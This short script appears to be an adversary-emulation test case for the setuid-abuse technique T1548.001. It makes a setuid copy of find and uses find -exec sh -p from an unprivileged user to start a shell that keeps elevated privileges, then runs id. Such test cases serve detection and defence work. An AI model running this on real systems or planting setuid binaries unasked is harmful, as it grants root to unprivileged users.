# title: A user has a setuid find start a shell
# technique: T1548.001
# needs: find

cp /usr/bin/find /usr/local/bin/find && chmod u+s /usr/local/bin/find
setpriv --reuid 1000 --regid 1000 --clear-groups /usr/local/bin/find /etc/hostname -exec sh -p -c id ';'
